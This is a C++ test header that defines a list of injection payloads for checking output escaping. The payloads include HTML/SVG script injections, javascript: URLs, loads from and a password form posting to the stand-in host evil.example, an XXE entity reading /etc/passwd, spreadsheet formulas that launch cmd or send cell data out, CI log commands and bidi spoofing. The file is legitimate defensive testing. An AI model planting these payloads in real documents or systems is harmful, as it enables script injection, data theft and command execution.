/// \file
/// Texts that must stay texts, whatever file they are written into: what users, respondents and
/// other people's benchmark files could hold.
// SPDX-License-Identifier: Apache-2.0
#pragma once

#include <array>
#include <string>
#include <string_view>
#include <vector>

namespace cxmat::testing {

struct Payload {
  std::string_view name;  ///< for messages of tests
  std::string text;       ///< may hold any bytes, zero and invalid UTF-8 too
};

/// Sixty and more. Every one of them is worth a place in every format: what is harmless in HTML may
/// be a formula in a spreadsheet.
[[nodiscard]] inline std::vector<Payload> payloads() {
  using namespace std::string_literals;
  return {
      // HTML: elements, and what ends the element around them.
      {"script", "<script>alert(1)</script>"},
      {"script in capitals", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"},
      {"script without an end", "<script>alert(1)"},
      {"image with a handler", "<img src=x onerror=alert(1)>"},
      {"frame", "<iframe src=\"javascript:alert(1)\"></iframe>"},
      {"object", "<object data=//evil.example/x.swf></object><embed src=//evil.example/y>"},
      {"form", "<form action=//evil.example><input name=password><button>send</button></form>"},
      {"base and refresh",
       "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>"},
      {"stylesheet",
       "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>"},
      {"style ends", "</style><script>alert(1)</script>"},
      {"script ends", "</script><script>alert(1)</script>"},
      {"title ends", "</title><svg onload=alert(1)>"},
      {"table ends", "</td></tr></table></div></main></body></html><h1>taken over</h1>"},
      {"details end", "</summary></details><dialog open>hello</dialog>"},
      {"comment opens", "<!-- the rest is gone"},
      {"comment ends", "--> --!> <b>bold</b>"},
      {"marked section", "]]> <![CDATA[ <b>bold</b> ]]>"},
      {"declaration", "<!DOCTYPE html><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;"},
      {"processing instruction", "<?xml version=\"1.0\"?><?php echo 1; ?>"},
      {"references", "&lt;b&gt; &amp;lt; &#60;script&#62; &#x3C;script&#x3E; &notit; &copy"},
      {"an isolate as an element", "</bdi></bdi><bdo dir=rtl>turned</bdo>"},
      {"a lone angle", "a < b > c <"},
      {"letters of other widths",
       "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E \u02C2script\u02C3"},
      // Attributes.
      {"double quote", "\" onmouseover=\"alert(1)\" x=\""},
      {"single quote", "' autofocus onfocus='alert(1)' x='"},
      {"back quote", "` onmouseover=`alert(1)` x=`"},
      {"attribute without quotes", " onmouseover=alert(1) style=position:fixed;inset:0 "},
      {"quote and end", "\"><svg/onload=alert(1)>"},
      // SVG.
      {"text ends in a chart", "</text></svg><svg onload=alert(1)><text>"},
      {"animation", "<animate attributeName=href values=javascript:alert(1)>"},
      {"foreign object", "<foreignObject><body onload=alert(1)></foreignObject>"},
      {"use and image",
       "<use href=\"//evil.example/x.svg#a\"/><image href=\"//evil.example/x.png\"/>"},
      // Addresses.
      {"script address", "javascript:alert(1)"},
      {"script address, hidden", "java\tscript:alert(1) JaVaScRiPt&colon;alert(1)"},
      {"data address", "data:text/html,<script>alert(1)</script>"},
      {"address", "https://evil.example/?x=1&y=2 www.evil.example someone@evil.example"},
      // CSS.
      {"expression", "x:expression(alert(1));background:url(//evil.example/x.png)"},
      {"import", "}@import url(//evil.example/x.css);*{background:url(javascript:alert(1))"},
      // Markdown.
      {"link", "[click](javascript:alert(1)) [click][1] <https://evil.example>"},
      {"picture", "![](https://evil.example/track.png) ![x][1]"},
      {"reference definition", "[1]: https://evil.example \"title\""},
      {"heading", "# heading\n## second\n====\n----"},
      {"list and quote", "- item\n+ item\n1. item\n> quote\n    code"},
      {"code", "```\ncode\n``` `code` ~~~"},
      {"emphasis", "**bold** _lean_ ~~gone~~ ***both*** __x__"},
      {"table", "a | b |\n|---|---|\n| c | d |"},
      {"footnote and task", "[^1] [ ] [x] [^1]: note @someone #12 :bomb: $x^2$"},
      {"backslashes", "\\ \\\\ \\| \\< \\`"},
      // Spreadsheets.
      {"equals", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"},
      {"plus", "+1+cmd|' /C calc'!A0"},
      {"minus", "-2+3+cmd|' /C calc'!A0"},
      {"at", "@SUM(1+1)*cmd|' /C calc'!A0"},
      {"tab first", "\t=1+1"},
      {"return first", "\r=1+1"},
      {"wide equals", "\uFF1D1+1"},
      {"cell breaks", "a\",\"b\n\"c\";d\te\r\nf"},
      // Templates and messages.
      {"mustache",
       "{{cover}} {{{svg.chart}}} {{&labels}} {{>part_table}} {{#rows}}{{/rows}} {{=<% %>=}} {{!"},
      {"mustache ends", "{{/cover}}{{/scores}}{{^x}}{{.}}"},
      {"places of messages", "{} {0} {1} {name} {0:{1}} %s %n $1 ${x}"},
      // Terminals, CI logs.
      {"escape sequences",
       "\x1B[2J\x1B[31mred\x1B]0;title\x07\x1B]8;;https://evil.example\x07link\x1B]8;;\x07"},
      {"other controls",
       "a\x08\x08\x7F\x0B\x0C b\u0085c\u2028d\u2029"
       "e"},
      {"workflow command",
       "::error file=x,line=1::taken over\n##[set-output name=x]y\n::stop-commands::z"},
      // Writing directions, nothing to see.
      {"turned around", "\u202Egpj.exe\u202C \u2067turned \u202D"},
      {"isolates that do not match", "\u2069\u2069 \u2068 \u2066open"},
      {"no width",
       "a\u200B\u200C\u200D\u2060\uFEFF\u00AD"
       "b"},
      {"marks without end",
       [] {
         std::string marks = "Z";
         for (int i = 0; i < 200; ++i) {
           marks += "\u0334";
         }
         return marks;
       }()},
      // Bytes that are no text, sizes that are none.
      {"zero", "a\0b<\0script>"s},
      {"invalid UTF-8", "\xFF\xFE \xC0\xBCscript\xC0\xBE \xE2\x80 \xF4\x90\x80\x80"},
      {"lone surrogates", "\xED\xA0\x80<b>\xED\xBF\xBF"},
      {"cut off", "caf\xC3"},
      {"very long word", std::string(3000, 'W')},
      {"very long text",
       [] {
         std::string words;
         for (int i = 0; i < 300; ++i) {
           words += "<b>word ";
         }
         return words;
       }()},
      {"nothing but blanks", " \u00A0\u2003\t "},
  };
}

}  // namespace cxmat::testing
